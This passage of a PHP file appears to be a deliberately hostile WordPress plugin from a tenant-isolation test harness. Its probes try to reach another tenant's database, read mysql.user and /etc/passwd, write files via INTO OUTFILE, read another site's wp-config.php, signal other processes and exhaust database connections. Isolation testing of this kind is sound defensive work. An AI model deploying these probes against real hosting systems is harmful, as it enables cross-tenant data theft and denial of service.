	$rows[] = aiph_try('db_show_databases', 'self', function () use ($q) {
		[$ok, $r] = $q('SHOW DATABASES');
		return [$ok && in_array(DB_NAME, array_column($r, 0), true), 'own database listed'];
	});
	$rows[] = aiph_try('db_use_other', 'B', function () use ($q, $v) {
		[$ok, $r] = $q('USE `' . $v['db_name'] . '`');
		$q('USE `' . DB_NAME . '`');
		return [$ok, $ok ? "USE B's database" : $r];
	});
	$rows[] = aiph_try('db_select_other', 'B', function () use ($q, $v) {
		[$ok, $r] = $q('SELECT option_value FROM `' . $v['db_name'] . "`.wp_options WHERE option_name = 'siteurl'");
		return [$ok && $r, $ok ? "B's siteurl: " . ($r[0][0] ?? '') : $r];
	});
	$rows[] = aiph_try('db_mysql_user', 'shard', function () use ($q) {
		[$ok, $r] = $q('SELECT User, Host FROM mysql.user');
		return [$ok, $ok ? count($r) . ' accounts' : $r];
	});
	$rows[] = aiph_try('db_processlist', 'B', function () use ($q) {
		[$ok, $r] = $q('SELECT USER FROM information_schema.PROCESSLIST WHERE USER <> ' . "'" . DB_USER . "'");
		return [$ok && $r, $ok ? count($r) . " other users' sessions visible" : $r];
	});
	$rows[] = aiph_try('db_load_file', 'shard', function () use ($q) {
		[$ok, $r] = $q("SELECT LOAD_FILE('/etc/passwd')");
		return [$ok && ($r[0][0] ?? null) !== null, $ok ? (($r[0][0] ?? null) === null ? 'NULL' : 'read /etc/passwd') : $r];
	});
	$rows[] = aiph_try('db_into_outfile', 'shard', function () use ($q) {
		$f = '/tmp/aipress-hostile-outfile-' . getmypid() . '-' . mt_rand();
		[$ok, $r] = $q("SELECT 'x' INTO OUTFILE '$f'");
		return [$ok, $ok ? "wrote $f as mysql" : $r];
	});
	$own->close();
	return $rows;
}

// ---------------------------------------------------------------------------------------------------------------
// hold_db: many connections to A's own database, held until the test releases them.

function aiph_hold_db(array $req) {
	$n = min((int) ($req['n'] ?? 0), 2000);
	$deadline = microtime(true) + (float) ($req['max_seconds'] ?? 30);
	$held = [];
	$err = '';
	for ($i = 0; $i < $n; $i++) {
		$c = aiph_db_connect(DB_USER, DB_PASSWORD, DB_NAME, true, aiph_db_socket(), 0);
		if (!($c instanceof mysqli)) {
			$err = (string) $c;
			break;
		}
		$held[] = $c;
	}
	@file_put_contents($req['progress'], (string) count($held));
	// Keep taking every connection that others free until released.
	while (microtime(true) < $deadline && !file_exists($req['release'])) {
		if (count($held) < $n) {
			$c = aiph_db_connect(DB_USER, DB_PASSWORD, DB_NAME, true, aiph_db_socket(), 0);
			if ($c instanceof mysqli) {
				$held[] = $c;
				continue;
			}
		}
		usleep(20000);
		clearstatcache();
	}
	foreach ($held as $c) {
		$c->close();
	}
	return ['opened' => count($held), 'error' => $err];
}

function aiph_db_socket() {
	return preg_match('/^localhost:(\/.+)$/', DB_HOST, $m) ? $m[1] : '';
}

// ---------------------------------------------------------------------------------------------------------------
// The CLI run (WP-Cron): the same escapes under the PHP CLI, results into A's own tmp/.

function aiph_run_cli(array $t) {
	$self = $t['self'];
	$rows = [];
	$rows[] = aiph_try('cli_exec_family', 'shard', 'aiph_exec_family');
	$rows[] = aiph_try('cli_ffi', 'shard', 'aiph_ffi');
	$rows[] = aiph_try('cli_ld_preload_mail', 'shard', function () use ($t, $self) {
		return aiph_ld_preload($t['ld_preload'] ?? '', rtrim($self['tmp'], '/') . '/aipress-hostile-ld-cli.mark');
	});
	$rows[] = aiph_try('cli_fork', 'shard', 'aiph_fork');
	$rows[] = aiph_try('cli_read_wp_config', 'B', function () use ($t) { return aiph_read($t['victim']['wp_config']); });
	$rows[] = aiph_try('cli_read_wp_config', 'self', function () use ($self) { return aiph_read($self['wp_config']); });
	$rows[] = aiph_try('cli_signal_other', 'shard', function () use ($t) {
		return aiph_signal(array_merge($t['victim']['pids'], array_values($t['platform']['pids'])));
	});
	$rows[] = aiph_try('cli_write_uploads', 'self', function () use ($self) { return aiph_write($self['uploads']); });
	$rows[] = aiph_row('cli_ran', 'self', true, 'the plugin ran under ' . PHP_SAPI . ' as uid ' . (function_exists('posix_getuid') ? posix_getuid() : '?'));
	return ['results' => $rows, 'pid' => getmypid(), 'at' => time()];
}

// ---------------------------------------------------------------------------------------------------------------
// Entry points.

if (!defined('ABSPATH')) {
	// Run directly (no WordPress): the root harness control of the FastCGI attack.
	if (PHP_SAPI === 'cli' && getenv('AIPRESS_HOSTILE_SELFTEST')) {
		$t = json_decode((string) file_get_contents(getenv('AIPRESS_HOSTILE_SELFTEST')), true);
		echo json_encode(['results' => aiph_fcgi_rows($t)]), "\n";
	}
	return;
}

if (PHP_SAPI === 'cli') {
	$aiph_tmp = dirname(WP_CONTENT_DIR, 2) . '/tmp';
	$aiph_targets = @file_get_contents($aiph_tmp . '/aipress-hostile-targets.json');
	if ($aiph_targets !== false) {
		$aiph_out = json_encode(aiph_run_cli(json_decode($aiph_targets, true)));
		@file_put_contents($aiph_tmp . '/aipress-hostile-cli.json.tmp', $aiph_out);
		@rename($aiph_tmp . '/aipress-hostile-cli.json.tmp', $aiph_tmp . '/aipress-hostile-cli.json');
	}
	return;
}

if (($_SERVER['REQUEST_METHOD'] ?? '') === 'POST' && isset($_GET['aipress_hostile'])) {
	$aiph_req = json_decode((string) file_get_contents('php://input'), true);
	header('Content-Type: application/json');
	header('Cache-Control: no-store');
	if (!is_array($aiph_req)) {
		http_response_code(400);
		echo json_encode(['error' => 'body is not JSON']);
		exit;
	}
	@set_time_limit(90);
	if ($_GET['aipress_hostile'] === 'hold_db') {
		echo json_encode(aiph_hold_db($aiph_req));
	} else {
		echo json_encode(aiph_run_fpm($aiph_req));
	}
	exit;
}
